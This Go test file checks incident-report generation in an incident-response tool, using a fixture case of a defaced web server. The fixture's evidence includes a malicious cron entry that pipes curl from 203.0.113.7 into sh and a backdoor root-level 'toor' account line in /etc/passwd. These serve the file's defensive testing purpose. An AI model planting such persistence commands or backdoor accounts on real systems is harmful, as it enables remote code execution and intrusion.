package incident

import (
	"bytes"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/vigil-ir/vigil/internal/catalog"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/store"
	"github.com/vigil-ir/vigil/internal/testutil"
)

var t0 = time.Date(2026, 12, 1, 8, 0, 0, 0, time.UTC)

// fixtureInput is a case as the store would give it: a defaced web server,
// two scans, a containment action, an evidence archive and notes.
func fixtureInput(t *testing.T, lang string) Input {
	t.Helper()
	cat, err := catalog.Load()
	if err != nil {
		t.Fatal(err)
	}
	at := func(m int) time.Time { return t0.Add(time.Duration(m) * time.Minute) }
	c := store.Case{ID: 1, Reference: "IR-1", Title: "web1: defaced home page", Opened: at(30), Aware: t0, OpenedBy: "root (sudo: alice)",
		State: store.CaseClosed, Closed: at(600), ClosedBy: "root (sudo: alice)"}
	scan := func(m int, fs ...model.Finding) *model.Result {
		return &model.Result{Meta: model.ScanMeta{Started: at(m), Operator: "root (sudo: bob)", Target: model.TargetInfo{Root: "/", Live: true, Hostname: "web1"}}, Findings: fs}
	}
	cron := model.Finding{RuleID: "persistence.cron.command", Severity: model.Critical, Category: "persistence", Technique: "T1053.003",
		Subject: "/var/spool/cron/crontabs/www-data", Fingerprint: "aaa",
		Evidence: model.Evidence{Path: "/var/spool/cron/crontabs/www-data", Text: "* * * * * curl -s http://203.0.113.7/x | sh", User: "www-data"}}
	uid0 := model.Finding{RuleID: "accounts.uid0.nonroot", Severity: model.High, Category: "accounts", Subject: "toor", Fingerprint: "bbb",
		Evidence: model.Evidence{Path: "/etc/passwd", Line: 30, Text: "toor:x:0:0::/root:/bin/bash", SHA256: strings.Repeat("ab", 32)}}
	low := model.Finding{RuleID: "ssh.sshd.listen", Severity: model.Low, Subject: "sshd", Fingerprint: "ccc"}
	f, err := os.Open("testdata/timeline.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	extra, _, _, err := ReadTimeline(f, MaxExtra)
	if err != nil {
		t.Fatal(err)
	}
	return Input{
		Case: c, Lang: lang, Catalog: cat, Now: at(700), Extra: extra,
		Scans:   []*model.Result{scan(40, cron, uid0, low), scan(400, uid0)},
		Actions: []store.ActionRecord{{ID: 1, Kind: "net.isolate", Subject: "web1", State: "applied"}},
		Events: []store.CaseEvent{
			{At: at(30), Actor: "root (sudo: alice)", Kind: KindOpened, Detail: c.Title},
			{At: at(40), Actor: "root (sudo: bob)", Kind: KindScan, Ref: "1", Detail: "live|machine-id:01", RunKind: model.KindScan},
			{At: at(50), Actor: "root (sudo: alice)", Kind: KindAction, Ref: "1", Detail: "net.isolate web1"},
			{At: at(60), Actor: "root (sudo: alice)", Kind: KindEvidence, Ref: "/media/ir/web1.tar.zst", Detail: "web1 triage, 843 items, sha256 0f0f"},
			{At: at(120), Actor: "alice", Kind: KindNote, Step: StepTrace, Detail: "entry: wp-admin login from 203.0.113.7 with a reused password"},
			{At: at(130), Actor: "alice", Kind: KindNote, Step: StepAssess, Detail: "customer table of the shop database (1,200 rows)"},
			{At: at(300), Actor: "alice", Kind: KindNote, Step: StepFix, Detail: "cron entry and toor account removed"},
			{At: at(350), Actor: "alice", Kind: KindNote, Step: StepHarden, Detail: "password logins disabled; wp-admin behind VPN"},
			{At: at(400), Actor: "root (sudo: bob)", Kind: KindScan, Ref: "2", Detail: "live|machine-id:01", RunKind: model.KindFiles},
			{At: at(450), Actor: "root (sudo: bob)", Kind: KindTimeline, Step: StepTrace, Ref: "web1 (/)", Detail: TimelineRun{Entries: 5210,
				Kept: 1000, Suspicious: 3, Left: map[string]int{KindLog: 4100, KindProcess: 110}, Capped: 7, Stages: []string{"login", "persistence"}}.Detail()},
			{At: at(500), Actor: "alice", Kind: KindNote, Step: StepReport, Detail: "MFA for every admin login"},
			{At: at(600), Actor: "root (sudo: alice)", Kind: KindClosed},
		},
	}
}

func TestReportGolden(t *testing.T) {
	for _, lang := range []string{"en", "zh-CN"} {
		in := fixtureInput(t, lang)
		r := Build(in)
		for _, tc := range []struct{ format, tmpl, ext string }{
			{FormatMarkdown, TemplateReport, "md"}, {FormatJSON, TemplateReport, "json"}, {FormatHTML, TemplateReport, "html"},
			{FormatMarkdown, TemplateRegulator, "regulator.md"},
		} {
			var b bytes.Buffer
			if err := Render(&b, r, in.Catalog, tc.format, tc.tmpl); err != nil {
				t.Fatal(err)
			}
			testutil.Golden(t, "testdata/report."+lang+"."+tc.ext, b.Bytes())
			if strings.Contains(b.String(), "%!") || strings.Contains(b.String(), "<no value>") {
				t.Errorf("%s %s: a template or message is broken", lang, tc.ext)
			}
		}
	}
}

func TestReportContent(t *testing.T) {
	r := Build(fixtureInput(t, "en"))
	if r.Summary.Findings != 2 || r.Summary.Highest != "critical" || r.Summary.Actions != 1 || r.Summary.Evidence != 1 {
		t.Errorf("summary: %+v", r.Summary)
	}
	iocs := map[string]bool{}
	for _, i := range r.IOCs {
		iocs[i.Kind+" "+i.Value] = true
	}
	for _, want := range []string{"ip 203.0.113.7", "url http://203.0.113.7/x", "sha256 " + strings.Repeat("ab", 32), "path /var/spool/cron/crontabs/www-data"} {
		if !iocs[want] {
			t.Errorf("IOC %q missing: %v", want, r.IOCs)
		}
	}
	if len(r.Hosts) != 1 || r.Hosts[0] != "web1" || len(r.Accounts) != 2 {
		t.Errorf("scope: %v %v", r.Hosts, r.Accounts)
	}
	var md bytes.Buffer
	if err := Render(&md, r, fixtureInput(t, "en").Catalog, FormatMarkdown, TemplateReport); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`scan 1 of live\|machine-id:01 (root (sudo: bob))`, "vigil files run 2 of", "auth.login actor=www-data from=203.0.113.7",
		"/wp-login.php", "containment action 1: net.isolate web1 (root (sudo: alice))"} {
		if !strings.Contains(md.String(), want) {
			t.Errorf("the report's timeline lacks %q", want)
		}
	}
	if !r.Deadline.Equal(t0.Add(72*time.Hour)) || r.Overdue {
		t.Errorf("deadline %v overdue %v", r.Deadline, r.Overdue)
	}
}

// The report of a case with nothing in it says "unknown" everywhere.
func TestReportEmptyCase(t *testing.T) {
	in := fixtureInput(t, "zh-CN")
	in.Scans, in.Events, in.Actions = nil, nil, nil
	in.Case.State = store.CaseOpen
	in.Now = t0.Add(100 * time.Hour)
	r := Build(in)
	if !r.Overdue {
		t.Error("an open case past 72 hours is overdue")
	}
	for _, f := range []string{FormatMarkdown, FormatHTML, FormatJSON} {
		var b bytes.Buffer
		if err := Render(&b, r, in.Catalog, f, TemplateReport); err != nil {
			t.Fatal(err)
		}
		if f == FormatMarkdown && strings.Count(b.String(), "未知") < 8 {
			t.Errorf("empty sections must say unknown:\n%s", b.String())
		}
	}
}

func TestReadTimeline(t *testing.T) {
	b, err := os.ReadFile("testdata/timeline.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	lines, dropped, bad, err := ReadTimeline(bytes.NewReader(b), MaxExtra)
	if err != nil || dropped != 0 || bad != 1 {
		t.Fatalf("ReadTimeline: %d lines, dropped %d, bad %d, %v", len(lines), dropped, bad, err)
	}
	var kinds []string
	for _, l := range lines {
		kinds = append(kinds, l.Kind+" "+l.Severity)
	}
	// The stored scan's finding is kept: it shows a stage of the attack path.
	if want := "log ,log ,finding high,finding critical"; strings.Join(kinds, ",") != want {
		t.Errorf("kinds %q, want %q", strings.Join(kinds, ","), want)
	}
	if lines[2].Stage != "login" || lines[3].Stage != "persistence" {
		t.Errorf("the attack path's stages: %+v", lines)
	}
	if lines[1].By != "www-data" || lines[1].Ref != "/var/log/auth.log:40" || !strings.Contains(lines[0].Text, "/wp-login.php") {
		t.Errorf("lines: %+v", lines)
	}
	// Over the limit the attack path is kept first, then the suspicious
	// lines and their context, then the earliest.
	lines, dropped, _, _ = ReadTimeline(bytes.NewReader(b), 3)
	if dropped != 1 || len(lines) != 3 || lines[0].Kind != "log" || lines[2].Stage != "persistence" {
		t.Errorf("capped: dropped %d, %+v", dropped, lines)
	}
}

func FuzzReadTimeline(f *testing.F) {
	b, _ := os.ReadFile("testdata/timeline.jsonl")
	f.Add(b)
	f.Add([]byte(`{"datetime":"2026-01-01T00:00:00Z","source":"file"}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		_, _, _, _ = ReadTimeline(bytes.NewReader(b), 3)
	})
}
